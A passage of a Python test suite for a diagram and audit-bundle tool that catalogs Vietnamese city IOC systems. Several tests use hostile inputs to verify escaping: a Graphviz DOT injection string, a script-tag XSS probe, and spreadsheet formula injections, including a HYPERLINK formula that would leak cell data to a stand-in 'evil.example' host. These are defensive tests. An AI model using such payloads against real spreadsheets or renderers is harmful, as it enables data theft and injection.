        [rel("feeds", f"system:s{i}", "platform:ioc", data=name) for i, name in enumerate(HOSTILE)],
    )
    dot = dot_for(store, "ioc")
    # Graphviz itself reads exactly the nodes and edges we wrote: nothing injected
    layout = json.loads(run_dot(dot, "json"))
    names = {o["name"] for o in layout.get("objects", []) if "nodes" not in o}
    entity_nodes = {n for n in names if n.startswith("n_")}
    assert entity_nodes == {node_id(r) for r in ["platform:ioc"] + [f"system:s{i}" for i in range(len(HOSTILE))]}
    assert all(re.fullmatch(r"(n|legend)_[0-9a-f]{12}", n) for n in names)
    feeds = [e for e in layout["edges"] if layout["objects"][e["head"]]["name"] == node_id("platform:ioc")]
    assert len(feeds) == len(HOSTILE)
    labels = {o["label"] for o in layout["objects"] if "label" in o}
    assert '"]; evil [label="x' in " ".join(labels) or any("evil [label" in str(o) for o in layout["objects"])
    outside_strings = re.sub(r'"(?:[^"\\\n]|\\.)*"', '""', dot)  # the DOT with every quoted string emptied
    assert "<script>" not in outside_strings  # raw text only inside quoted strings; escaped in HTML labels
    assert outside_strings.count("evil [") == outside_strings.count("&quot;]; evil [label=&quot;x") > 0
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dot
    assert "&quot;]; evil [label=&quot;x" in dot
    svg = draw(store, "ioc", ViewParams(), "svg").decode("utf-8")
    assert "<script" not in svg
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in svg
    assert re.search(r"&quot;\]; evil \[label=&quot;x|\"\]; evil \[label=\"x", svg)
    texts = re.findall(r"<text[^>]*>([^<]*)</text>", svg)
    assert any("evil [label" in t for t in texts)
    assert not re.search(r"<g id=\"[^\"]*evil", svg)  # no injected node
    for fmt in ("png", "pdf"):
        assert len(draw(store, "ioc", ViewParams(), fmt)) > 1000
    store.close()


def test_png_and_svg_of_the_ioc_view(sample: CatalogStore) -> None:
    png = draw(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER), "png")
    assert png.startswith(b"\x89PNG") and len(png) > 200_000
    width, height = int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")
    assert width > 1500 and height > 1000
    svg = draw(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER), "svg").decode("utf-8")
    assert "Sở Khoa học và Công nghệ TP.HCM" in svg and "Cổng thông tin 1022" in svg  # real characters
    assert "&#" not in re.sub(r"&#(34|39|45|160);", "", svg)  # not numeric entities
    assert 'font-family="Noto Sans' in svg
    assert 'xlink:href="/entities/system:hcm-cong-1022"' in svg
    pdf = draw(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER), "pdf")
    assert pdf.startswith(b"%PDF") and b"/CreationDate (D:20250801000000Z)" in pdf


def test_pdf_date_is_rewritten_in_place() -> None:
    pdf = b"x /CreationDate (D:20261125202724Z) y"
    fixed = fix_pdf_date(pdf, dt.date(2025, 8, 1))
    assert fixed == b"x /CreationDate (D:20250801000000Z) y" and len(fixed) == len(pdf)


# --- audit bundle ------------------------------------------------------------------------------------------------


def test_bundle_is_reproducible_and_verifies(sample: CatalogStore, tmp_path: Path) -> None:
    a, b = tmp_path / "a.zip", tmp_path / "b.zip"
    manifest = build_bundle(sample, AFTER, a)
    build_bundle(sample, AFTER, b)
    assert a.read_bytes() == b.read_bytes()
    check = verify_bundle(a, sample)
    assert check.ok, str(check)
    with zipfile.ZipFile(a) as z:
        names = z.namelist()
        assert names == sorted(names)
        assert {
            "manifest.json",
            "changelog.jsonl",
            "compliance.json",
            "diagrams/ioc.svg",
            "diagrams/ioc.pdf",
            "diagrams/landscape.svg",
            "diagrams/landscape.pdf",
            "inventory/system.csv",
        } <= set(names)
        assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in z.infolist())
        csv_text = z.read("inventory/system.csv")
        assert csv_text.startswith(b"\xef\xbb\xbf") and "Cổng thông tin 1022".encode() in csv_text
        log = z.read("changelog.jsonl").decode().splitlines()
        assert json.loads(log[-1])["hash"] == manifest["changelog_head"]["hash"]
        compliance = json.loads(z.read("compliance.json"))
        assert compliance["today"] == AFTER and compliance["findings"]
    assert "inventory/inventory.xlsx" in manifest["files"]
    assert not any("xlsx" in n.lower() for n in manifest["notes"])


def test_bundle_xlsx_inventory(sample: CatalogStore, tmp_path: Path) -> None:
    """One sheet per kind, bilingual frozen header, a row per entity on the day, Vietnamese intact."""
    import csv
    import io

    import openpyxl

    data = json.loads(SAMPLE.read_text(encoding="utf-8"))
    build_bundle(sample, AFTER, tmp_path / "a.zip")
    with zipfile.ZipFile(tmp_path / "a.zip") as z:
        raw = z.read("inventory/inventory.xlsx")
        csvs = {n.split("/")[1][:-4]: z.read(n).decode("utf-8-sig") for n in z.namelist() if n.endswith(".csv")}
        with zipfile.ZipFile(io.BytesIO(raw)) as x:
            assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in x.infolist())
            assert b"2025-08-01T00:00:00Z" in x.read("docProps/core.xml")
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    assert wb.sheetnames == list(sample.metamodel.kinds)
    for kind, ws in zip(wb.sheetnames, wb.worksheets, strict=False):
        assert ws.freeze_panes == "A2"
        assert ws.cell(1, 1).value == "Mã tham chiếu / Reference"
        assert ws.cell(1, 2).value == "Tên (tiếng Việt) / Name (Vietnamese)"
        csv_rows = list(csv.reader(io.StringIO(csvs[kind])))
        assert ws.max_row == len(csv_rows), kind  # a row per entity of the kind, as in the CSV
        expected = [
            e
            for e in data["entities"]
            if e["ref"].split(":")[0] == kind and (e.get("valid_from") or "") <= AFTER < (e.get("valid_to") or "9999")
        ]
        assert ws.max_row == 1 + len(expected), kind  # independently: the sample's entities valid on AFTER
        assert [c.value for c in ws["A"]][1:] == [r[0] for r in csv_rows[1:]], kind
    spec = sample.metamodel.kinds["system"]
    head = [c.value for c in wb["system"][1]]
    assert all(f"{a.label.vi} / {a.label.en}" in head or a.label.vi == a.label.en for a in spec.attributes)
    systems = [c.value for c in wb["system"]["A"][1:]]
    assert systems == sorted(systems) and len(systems) >= 1
    assert len(systems) <= sum(1 for e in data["entities"] if e["ref"].startswith("system:"))
    names = {c.value for c in wb["system"]["B"]}
    assert any("Cổng thông tin 1022" in (n or "") for n in names)


def test_xlsx_cells_cannot_become_formulas() -> None:
    import io

    import openpyxl

    from catalog.metamodel import DEFAULT
    from catalog.model import LocalText, LongText
    from diagrams.inventory import inventory_xlsx

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    e = entity("system:x", "x", owner="organization:o").model_copy(
        update={"name": LocalText(vi=hostile, en="+1\x07bell"), "description": LongText(vi="@SUM(A1)", en="-2")}
    )
    day = dt.date(2025, 8, 1)
    raw = inventory_xlsx([e], DEFAULT, day)
    assert raw == inventory_xlsx([e], DEFAULT, day)
    ws = openpyxl.load_workbook(io.BytesIO(raw))["system"]
    row = {c.column_letter: c for c in ws[2]}
    assert row["B"].value == "'" + hostile and row["B"].data_type == "s"
    assert row["C"].value == "'+1\ufffdbell" and row["C"].data_type == "s"
    assert row["H"].value == "'@SUM(A1)" and row["I"].value == "'-2"
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def test_one_byte_change_to_any_file_fails_naming_it(sample: CatalogStore, tmp_path: Path) -> None:
    good = tmp_path / "good.zip"
    build_bundle(sample, AFTER, good)
    with zipfile.ZipFile(good) as z:
        contents = {i.filename: (i, z.read(i.filename)) for i in z.infolist()}
    assert "inventory/inventory.xlsx" in contents  # the loop below changes one byte of it too
    for name, (_, data) in contents.items():
        pos = len(data) // 2
        bad_data = data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1 :]
        bad = tmp_path / "bad.zip"
        with zipfile.ZipFile(bad, "w") as z:
            for other, (info, d) in contents.items():
                z.writestr(info, bad_data if other == name else d)
        check = verify_bundle(bad)
        assert not check.ok and check.bad_file == name, (name, str(check))
    # and bytes changed inside the zip itself (not through zipfile) are caught too
    raw = bytearray(good.read_bytes())
    raw[len(raw) // 3] ^= 0xFF
    (tmp_path / "raw.zip").write_bytes(bytes(raw))
    assert not verify_bundle(tmp_path / "raw.zip").ok


def test_csv_cells_cannot_become_formulas() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+SUM(A1)", "-2", "@x", "Sở", None, ["a", "b"])] == [
        "'=1+1",
        "'+SUM(A1)",
        "'-2",
        "'@x",
        "Sở",
        "",
        "a; b",
    ]


# --- command line --------------------------------------------------------------------------------------------------


def test_cli_commands(tmp_path: Path) -> None:
    """The commands against a catalog file (the command line names its store by URL; one backend is enough)."""
    import typer
    from typer.testing import CliRunner

    from api.commands_diagrams import register

    sample = make_store("sqlite", tmp_path)
    sample.clock = FakeClock(RECORDED)
    assert run_import(sample, SAMPLE).loaded
    app = typer.Typer()
    register(app)
    url = f"sqlite:///{sample.path}"
    runner = CliRunner()
    out = tmp_path / "ioc.svg"
    r = runner.invoke(app, ["diagram", "ioc", "--ref", IOC, "--as-of", AFTER, "-o", str(out), "--store", url])
    assert r.exit_code == 0, r.output
    assert out.read_bytes() == draw(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER), "svg")
    r = runner.invoke(
        app,
        [
            "diagram",
            "landscape",
            "-f",
            "dot",
            "-o",
            str(tmp_path / "l.dot"),
            "--store",
            url,
            "--lang",
            "en",
            "--as-of",
            AFTER,
        ],
    )
    assert r.exit_code == 0 and "Legend" in (tmp_path / "l.dot").read_text(encoding="utf-8")
    r = runner.invoke(app, ["diagram", "nope", "-o", str(tmp_path / "x.svg"), "--store", url])
    assert isinstance(r.exception, CatalogError) and "available" in str(r.exception)
    bundle = tmp_path / "b.zip"
    r = runner.invoke(app, ["audit-bundle", "--as-of", AFTER, "-o", str(bundle), "--store", url])
    assert r.exit_code == 0, r.output
    r = runner.invoke(
        app, ["audit-bundle-verify", str(bundle), "--store", url, "--against-store"], env={"IOC_CATALOG_LANG": "en"}
    )
    assert r.exit_code == 0 and "bundle OK" in r.output


def test_a_write_is_drawn_at_once(tmp_path: Path) -> None:
    """Snapshots are cached by change-log head: any write shows in the next diagram."""
    store = make_store("sqlite", tmp_path)
    run_import(store, SAMPLE)
    assert "system:hcm-late" not in build(store, "ioc", ViewParams(ref=IOC)).nodes
    load(
        store,
        tmp_path / "late.json",
        [entity("system:hcm-late", "Hệ thống muộn", owner="organization:hcm-skhcn")],
        [rel("feeds", "system:hcm-late", IOC)],
    )
    assert "system:hcm-late" in build(store, "ioc", ViewParams(ref=IOC)).nodes
    store.close()


@pytest.mark.parametrize("text", ["20250101", "2025-W01-1", "2025-13-01", "yesterday"])
def test_days_are_read_only_as_yyyy_mm_dd(text: str) -> None:
    from catalog.errors import ValidationFailed
    from catalog.history.snapshot import parse_day

    with pytest.raises(ValidationFailed, match="is not a date YYYY-MM-DD"):
        parse_day(text, "as_of")
    assert parse_day(" 2025-03-01 ", "as_of") == dt.date(2025, 3, 1) and parse_day("", "as_of") is None


def test_label_wrapping_is_textwraps() -> None:
    """diagrams.dot.wrap breaks a cleaned label into the lines textwrap gives (long words broken, no hyphen breaks)."""
    import random
    import textwrap

    from diagrams.dot import clean, wrap

    rnd = random.Random(6)
    chars = "ab cđ\t\n\x0b\x0c\r\u00a0\u3000\u2028-.Ệ<&\"'" + "abcdefghij" * 3
    for _ in range(20000):
        text = clean("".join(rnd.choice(chars) for _ in range(rnd.randint(0, 90))))
        for width in (1, 3, 24, 28, 48):
            assert wrap(text, width) == textwrap.wrap(
                text, width=width, break_long_words=True, break_on_hyphens=False
            ), (text, width)


def test_clean_makes_one_printable_line_of_any_character() -> None:
    """diagrams.dot.clean (with its fast path for text that is already one printable line) gives, for every code
    point alone and between letters, what the plain rule gives: controls, separators and runs of white space become
    one space, none at the ends."""
    from diagrams.dot import _CONTROL, clean

    def rule(text: str) -> str:
        return " ".join(_CONTROL.sub(" ", text).replace("\n", " ").replace("\t", " ").split())

    for cp in range(0x110000):
        if not 0xD800 <= cp < 0xE000:
            ch = chr(cp)
            assert clean(ch) == rule(ch) and clean(f"a{ch}b") == rule(f"a{ch}b"), hex(cp)
    assert clean(" Sở  Y tế\u00a0\n") == "Sở Y tế"
